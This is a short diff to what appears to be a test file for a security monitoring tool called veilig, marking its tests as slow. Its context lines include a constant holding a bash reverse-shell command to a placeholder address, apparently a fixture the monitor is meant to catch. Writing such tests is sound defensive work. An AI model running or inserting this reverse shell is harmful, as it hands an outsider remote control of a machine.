@@ -5,6 +5,8 @@ import os
 import pwd
 from pathlib import Path
 
+import pytest
+
 from replay_server import call, replay
 from running import done, run
 from terminal import Terminal
@@ -17,6 +19,7 @@ from veilig.core.ledger import Ledger
 from veilig.core.policy import parse
 from veilig.monitor.ladder import Level
 
+pytestmark = pytest.mark.slow
 SHELL = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"
 WATCHED = "monitor: {enabled: true}\nmodels: {allowed: [scripted]}\n"
 
